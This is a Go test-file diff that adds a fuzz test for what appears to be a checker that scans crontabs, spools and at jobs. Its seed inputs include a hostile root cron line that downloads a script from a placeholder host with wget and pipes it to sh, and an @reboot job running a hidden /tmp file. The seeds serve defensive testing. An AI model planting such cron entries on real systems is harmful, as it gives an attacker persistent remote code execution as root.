@@ -126,3 +126,16 @@ func TestLockedCrontab(t *testing.T) {
 	require.NoError(t, err)
 	assert.NotZero(t, fl&sysroot.FlagImmutable, "undo locks it again")
 }
+
+// FuzzCheck feeds hostile crontabs, spools and at jobs.
+func FuzzCheck(f *testing.F) {
+	f.Add([]byte("* * * * * root wget -q -O - http://x/d.sh | sh\n@reboot root /tmp/.x/y\n"))
+	f.Add([]byte("*/5 * * * * echo $((((( % x\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		checkstest.FuzzCheck(t, Check, map[string][]byte{
+			"etc/crontab": data, "etc/cron.d/x": data, "var/spool/cron/crontabs/root": data,
+			"var/spool/cron/atjobs/a01": data, "etc/cron.daily/x": data, "tmp/.x/y": data,
+			"etc/passwd": []byte("root:x:0:0::/root:/bin/bash\n"),
+		})
+	})
+}
